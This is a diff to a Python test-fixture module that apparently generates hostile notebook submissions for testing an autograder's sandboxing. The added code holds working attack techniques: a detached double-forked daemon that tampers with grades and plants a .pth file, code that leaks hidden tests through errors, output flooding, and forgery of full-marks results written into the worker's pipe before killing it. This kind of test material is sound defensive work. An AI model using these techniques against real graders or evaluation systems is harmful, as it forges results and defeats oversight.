@@ -16,6 +16,20 @@ Submissions:
   defines correct answers for q4 and q5 (which must not be credited).
 * ``infinite_loop.ipynb``: loops forever right after the parameters cell.
 * ``not_json.ipynb``: a text file named like a notebook; ``essay.txt``: not a notebook at all.
+
+Hostile submissions (``make_hostile``; they embed the paths they attack and a unique marker that
+every process they start carries in its command line). Each keeps only the solution's cells up
+to the grader's setup (no answers: any score would be a forgery):
+
+* ``hostile_escape.ipynb``: starts a detached process (double fork + setsid) that, every second
+  for 5 minutes, tries to append to the batch's grades.csv, another submission, and to create
+  files in solutions/, build/ and the venv's site-packages (a ``.pth``); tries the same writes
+  itself; reads solutions/ and the autograder's (hidden) tests and raises them as an error;
+  prints 10 MB into the notebook and writes 50 MB to its standard output.
+* ``hostile_forge.ipynb``: writes a full-marks ``grading.json``/``results.json`` wherever it can
+  (its folder, its parent, TMPDIR, /tmp, the output folder, the grading's temporary folders) and
+  into the open files of its parent processes (the worker's result pipe), then kills its worker.
+* ``sleeper_loop.ipynb`` (``make_sleeper``): starts a marked child process, then loops forever.
 """
 
 from __future__ import annotations
@@ -68,6 +82,141 @@ def infinite_loop(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
     params = next(i for i, c in enumerate(nb.cells) if "parameters" in c.metadata.get("tags", []))
     nb.cells.insert(params + 1, nbformat.v4.new_code_cell("while True:\n    pass"))
     return nb
+
+
+def _setup_only(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
+    setup = _cell_index(nb, "grader = cu.grading.Notebook(")
+    nb.cells = [nb.cells[i] for i in range(setup + 1)]
+    return nb
+
+
+REPO = Path(__file__).resolve().parents[2]
+
+_DAEMON = r"""
+import os, sys, time
+if os.fork():
+    os._exit(0)
+os.setsid()
+if os.fork():
+    os._exit(0)
+for _ in range(300):
+    time.sleep(1 if _ else 3)
+    for target in TARGETS:
+        try:
+            with open(target, "a") as fh:
+                fh.write("pwned by a detached process\n")
+        except OSError:
+            pass
+"""
+
+
+def hostile_targets(out: Path, victim: Path, marker: str) -> list[str]:
+    """The files a hostile submission tries to write (appends to existing ones, creates the others)."""
+    import sysconfig
+
+    site = sysconfig.get_paths()["purelib"]
+    return [str(out / "grades.csv"), str(out / "feedback" / f"PWNED-{marker}.txt"), str(victim),
+            str(REPO / "solutions" / f"PWNED-{marker}.txt"), str(REPO / "build" / f"PWNED-{marker}.txt"),
+            str(Path(site) / f"PWNED-{marker}.pth"), str(REPO / f"PWNED-{marker}.txt")]
+
+
+def hostile_escape(nb: nbformat.NotebookNode, out: Path, victim: Path, marker: str) -> nbformat.NotebookNode:
+    nb = _setup_only(nb)
+    targets = hostile_targets(out, victim, marker)
+    nb.cells.append(nbformat.v4.new_code_cell(
+        "import subprocess, sys\n"
+        f"TARGETS = {targets!r}\n"
+        f"DAEMON = {_DAEMON!r}\n"
+        f"subprocess.Popen([sys.executable, '-c', 'TARGETS = %r\\n' % TARGETS + DAEMON, {marker!r}],\n"
+        "                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,\n"
+        "                 stderr=subprocess.DEVNULL)"))
+    nb.cells.append(nbformat.v4.new_code_cell(
+        "for target in TARGETS:\n"
+        "    try:\n"
+        "        with open(target, 'a') as fh:\n"
+        "            fh.write('pwned by the notebook\\n')\n"
+        "    except OSError:\n"
+        "        pass"))
+    nb.cells.append(nbformat.v4.new_code_cell(
+        "import glob, os, zipfile\n"
+        "leak = []\n"
+        "for z in set(glob.glob('*.zip') + glob.glob('../*.zip') + glob.glob('/tmp/**/*.zip', recursive=True)):\n"
+        "    try:\n"
+        "        with zipfile.ZipFile(z) as f:\n"
+        "            leak += [f.read(n).decode() for n in f.namelist() if n.startswith('tests/')]\n"
+        "    except Exception:\n"
+        "        pass\n"
+        f"for path in [{str(REPO / 'solutions' / '09_exercises.ipynb')!r}] + glob.glob('/tmp/**/tests/*.py', recursive=True):\n"
+        "    try:\n"
+        "        leak.append(open(path).read())\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "os.write(1, '\\n'.join(leak).encode())\n"
+        "raise RuntimeError('LEAK ' + ' '.join('\\n'.join(leak).split('\\n')[-40:]))"))
+    nb.cells.append(nbformat.v4.new_code_cell(
+        "import os\n"
+        "for _ in range(10):\n"
+        "    print(('x' * 999 + '\\n') * 1000)\n"
+        "chunk = b'y' * (1 << 20)\n"
+        "for _ in range(50):\n"
+        "    os.write(1, chunk)"))
+    return nb
+
+
+def hostile_forge(nb: nbformat.NotebookNode, out: Path, victim: Path, marker: str, maxima: dict) -> nbformat.NotebookNode:
+    nb = _setup_only(nb)
+    nb.cells.append(nbformat.v4.new_code_cell(
+        "import glob, json, os, signal\n"
+        f"MAXIMA = {maxima!r}\n"
+        "full = {'questions': {q: {'score': float(p), 'possible': float(p), 'cases': []} for q, p in MAXIMA.items()},\n"
+        "        'cell_errors': [], 'error': None}\n"
+        "data = json.dumps(full)\n"
+        f"folders = {{os.getcwd(), '..', os.environ.get('TMPDIR', '/tmp'), '/tmp', {str(out)!r}, {str(out / 'grade')!r}}}\n"
+        "folders |= set(glob.glob('/tmp/*/')) | set(glob.glob('/tmp/grade-*/*/'))\n"
+        "for folder in folders:\n"
+        "    for name in ('grading.json', 'results.json'):\n"
+        "        try:\n"
+        "            with open(os.path.join(folder, name), 'w') as fh:\n"
+        "                fh.write(data)\n"
+        "        except OSError:\n"
+        "            pass\n"
+        "parent = os.getppid()\n"
+        "grandparent = int(open(f'/proc/{parent}/stat').read().rsplit(')', 1)[1].split()[1])\n"
+        "for pid in (parent, grandparent):\n"
+        "    for fd in range(3, 16):\n"
+        "        try:\n"
+        "            if os.path.islink(f'/proc/{pid}/fd/{fd}') and 'pipe:' in os.readlink(f'/proc/{pid}/fd/{fd}'):\n"
+        "                with open(f'/proc/{pid}/fd/{fd}', 'w') as fh:\n"
+        "                    fh.write(data)\n"
+        "        except OSError:\n"
+        "            pass\n"
+        f"print({marker!r})\n"
+        "os.kill(parent, signal.SIGKILL)"))
+    return nb
+
+
+def make_hostile(solution: Path, folder: Path, out: Path, victim: Path, marker: str, maxima: dict) -> list[Path]:
+    """Write hostile_escape.ipynb and hostile_forge.ipynb into ``folder`` (see the module's doc)."""
+    folder.mkdir(parents=True, exist_ok=True)
+    paths = []
+    for name, build in (("hostile_escape", lambda nb: hostile_escape(nb, out, victim, marker)),
+                        ("hostile_forge", lambda nb: hostile_forge(nb, out, victim, marker, maxima))):
+        path = folder / f"{name}.ipynb"
+        nbformat.write(build(nbformat.read(solution, as_version=4)), path)
+        paths.append(path)
+    return paths
+
+
+def make_sleeper(solution: Path, path: Path, marker: str) -> Path:
+    """A notebook that starts a child process carrying ``marker`` in its command line, then loops."""
+    nb = _setup_only(nbformat.read(solution, as_version=4))
+    nb.cells.append(nbformat.v4.new_code_cell(
+        "import subprocess, sys\n"
+        f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', {marker!r}])\n"
+        "while True:\n"
+        "    pass"))
+    nbformat.write(nb, path)
+    return path
 
 
 NOTEBOOK_FAULTS = {"several_faults": several_faults, "deletes_grader": deletes_grader, "infinite_loop": infinite_loop}
